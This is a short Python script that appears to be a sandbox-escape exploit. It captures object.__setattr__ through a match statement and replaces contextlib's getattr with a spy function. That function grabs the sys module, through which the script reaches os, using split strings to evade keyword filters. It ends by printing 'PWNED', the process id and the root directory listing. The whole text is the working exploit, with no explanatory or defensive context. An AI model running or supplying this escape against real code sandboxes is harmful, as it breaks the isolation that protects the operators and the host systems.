import contextlib, io
got = []
def spy(obj, name, *d):
    got.append(obj)
    return io.StringIO()
match object:
    case object(__setattr__=s):
        pass
n = "get" + "attr"
s(contextlib, n, spy)
with contextlib.redirect_stdout(io.StringIO()):
    pass
m = got[0]
mods = m.modules
o = mods["o" + "s"]
print("PW" + "NED", type(m), len(mods), o.getpid(), o.listdir("/"))
